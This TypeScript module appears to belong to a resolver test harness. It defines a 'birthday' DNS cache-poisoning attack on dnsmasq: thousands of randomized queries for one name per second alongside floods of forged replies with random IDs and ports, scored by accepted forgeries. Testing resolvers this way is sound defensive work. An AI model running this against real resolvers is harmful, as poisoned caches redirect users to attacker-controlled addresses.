import { randomBytes, randomInt } from 'node:crypto';
import { encodeQuery, HEADER_BYTES, TYPE, writeUint16 } from '@kube-dns/wire';
import type { Pod } from '../fixtures/pod.js';
import { type Attack, countText } from './attack.js';
import { DOMAINS } from './names.js';
import type { QueryTemplate } from './query-template.js';

const NAME = `the.${DOMAINS.birthday}`;
const QUERIES_PER_SECOND = 5_000;
const FORGERIES_PER_SECOND = 100_000;
const QUERIES = 512;
/** NSID, ECS, cookie, keepalive, padding, key tag, and one that no program knows. */
const OPTION_CODES = [3, 8, 10, 11, 12, 14, 65_001] as const;
const MAX_OPTIONS = 4;
const MAX_OPTION_BYTES = 24;
const FLAG_RD = 0x0100;
const FLAG_CD = 0x0010;
const FLAG_DO = 0x8000;
const MAX_UINT16 = 0xffff;

function coin(): boolean {
  return randomInt(2) === 0;
}

function options(): Buffer {
  const all = Array.from({ length: randomInt(MAX_OPTIONS + 1) }, () => {
    const option = Buffer.alloc(4 + randomInt(MAX_OPTION_BYTES));
    writeUint16(option, 0, OPTION_CODES[randomInt(OPTION_CODES.length)]!);
    writeUint16(option, 2, option.length - 4);
    option.set(randomBytes(option.length - 4), 4);
    return option;
  });
  return Buffer.concat(all);
}

function optRecord(): Buffer {
  const data = options();
  const fixed = Buffer.alloc(11);
  writeUint16(fixed, 1, TYPE.OPT);
  writeUint16(fixed, 3, randomInt(MAX_UINT16));
  writeUint16(fixed, 7, coin() ? FLAG_DO : 0);
  writeUint16(fixed, 9, data.length);
  return Buffer.concat([fixed, data]);
}

/** A TXT record of the root, with one string. */
function extraRecord(): Buffer {
  const text = randomBytes(8);
  const fixed = Buffer.alloc(12);
  writeUint16(fixed, 1, TYPE.TXT);
  writeUint16(fixed, 3, 1);
  writeUint16(fixed, 9, text.length + 1);
  fixed[11] = text.length;
  return Buffer.concat([fixed, text]);
}

/** The same question, with everything else as random as a client may send it. */
function anyQuery(): QueryTemplate {
  const name = NAME.replace(/[a-z]/g, (letter) => (coin() ? letter.toUpperCase() : letter));
  const question = Buffer.from(encodeQuery({ id: 0, name, type: 'A' }));
  writeUint16(question, 2, (coin() ? FLAG_RD : 0) | (coin() ? FLAG_CD : 0));
  const records = [...(coin() ? [extraRecord()] : []), ...(coin() ? [optRecord()] : [])];
  writeUint16(question, HEADER_BYTES - 2, records.length);
  return { message: Buffer.concat([question, ...records]) };
}

/** Every reply that a question waits for counts, whatever it says. */
async function acceptedReplies(pod: Pod): Promise<number> {
  const metrics = await pod.dnsmasq.metrics();
  return metrics.sum('dnsmasq_upstream_server_latency_seconds_count');
}

/** One name asked for in every form there is, so that as many IDs and ports as possible can be guessed for it. */
export const BIRTHDAY: Attack = {
  name: 'birthday',
  target: 'dnsmasq',
  summary: `${countText(QUERIES_PER_SECOND, 'queries/s')} for one name that differ in all else, ${countText(FORGERIES_PER_SECOND, 'forged replies/s')} with random IDs to random ports`,
  start: async ({ pod, attackers: { birthday, flood }, port, strength, lastWordMs }) => {
    const templates = Array.from({ length: QUERIES }, anyQuery);
    await birthday.call('start', port, NAME, FORGERIES_PER_SECOND * strength);
    await flood.call('start', port, QUERIES_PER_SECOND * strength, templates);
    return {
      finish: async () => {
        const { sent } = await flood.call('finish');
        const before = await acceptedReplies(pod);
        const { forged, perSecond, pairs, accepted } = await birthday.call('finish', lastWordMs);
        const inFlight = (await acceptedReplies(pod)) - before;
        const guesses = `${countText(forged, 'guesses')} at ${pairs} pairs of ID and port`;
        return {
          did: `${countText(sent, 'queries')}, ${guesses}, ${accepted} accepted`,
          perSecond,
          accepted,
          guesses: pairs > 0 ? forged : 0,
          pairs: inFlight,
        };
      },
    };
  },
};
